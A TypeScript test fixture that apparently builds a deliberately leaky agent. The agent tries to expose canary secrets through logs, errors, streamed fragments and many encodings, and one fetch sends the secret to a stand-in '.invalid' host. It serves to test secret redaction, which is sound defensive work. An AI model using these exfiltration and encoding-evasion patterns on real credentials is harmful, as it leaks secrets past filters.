// An agent that tries to give its secrets away: says, prints, throws and sends them, in every form and in pieces.
import { agentZip } from "./api-client";

/** The forms are made inside the agent, by the means that agents have. */
const source = `
const keys = ["CANARY_SECRET", "CANARY_KEY_FILE"];
const hexOf = (text) => [...new TextEncoder().encode(text)].map((byte) => byte.toString(16).padStart(2, "0")).join("");
const base64Of = (text) => btoa(String.fromCharCode(...new TextEncoder().encode(text)));
const html = (text) => text.replace(/[&<>"']/g, (mark) => "&#" + mark.charCodeAt(0) + ";");
const named = (text) => text.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll(">", "&gt;").replaceAll('"', "&quot;");
const spellings = (text) => [
  text, JSON.stringify({ text }), JSON.stringify(JSON.stringify({ text })),
  base64Of(text), base64Of("x" + text), base64Of("xy" + text + "z"), base64Of(text).replaceAll("+", "-").replaceAll("/", "_"),
  hexOf(text), hexOf(text).toUpperCase(), hexOf(text).replace(/../g, "%$&"), encodeURIComponent(text), encodeURI(text),
  new URLSearchParams({ text }).toString(), html(text), named(text), [...text].reverse().join(""),
  [...text].map((char) => "\\\\u" + char.charCodeAt(0).toString(16).padStart(4, "0")).join(""),
  [...text].map((char) => "&#x" + char.charCodeAt(0).toString(16) + ";").join(""),
];
const everything = (env) => [JSON.stringify(env), ...keys.flatMap((key) => spellings(env[key] ?? ""))];

async function* inPieces(env) {
  for (const text of everything(env)) for (let at = 0; at < text.length; at += 7) yield text.slice(at, at + 7);
}

function print(env) {
  for (const text of everything(env)) {
    console.log(text);
    console.error("failed: " + text);
    const middle = Math.floor(text.length / 2);
    console.log(text.slice(0, middle));
    console.log(text.slice(middle));
    globalThis.process?.stdout?.write?.(text.slice(0, middle));
    globalThis.process?.stdout?.write?.(text.slice(middle));
  }
  console.log(env);
  console.log(new Error("with " + env.CANARY_SECRET));
}

export default async function handler(request, context) {
  const last = request.input.messages.at(-1)?.content ?? "";
  const { env } = context;
  if (PROBE_THROWS || last.startsWith("throw")) throw new Error("cannot work with " + everything(env).join(" "));
  if (last.startsWith("stream")) return inPieces(env);
  if (last.startsWith("print")) print(env);
  if (last.startsWith("echo")) return last;
  if (last.startsWith("say")) return everything(env).join("\\n");
  if (last.startsWith("send")) {
    const word = env.CANARY_SECRET.replace(/[^a-z0-9]/gi, "");
    const outcome = await fetch("https://" + word + ".invalid/?secret=" + encodeURIComponent(env.CANARY_SECRET)).catch(String);
    throw new Error("could not send to " + word + ": " + outcome);
  }
  return "done";
}
`;

const manifest = {
  env: { requiredKeys: ["CANARY_SECRET"], optionalKeys: ["CANARY_KEY_FILE"] },
  capabilities: { streaming: true, tools: false },
};

/** `throwsWhenProbed`: with its secrets in the message, so that the deployment fails. */
export function leakyAgentZip(options: { throwsWhenProbed: boolean }): Uint8Array {
  return agentZip("leaky", source.replace("PROBE_THROWS", String(options.throwsWhenProbed)), manifest);
}
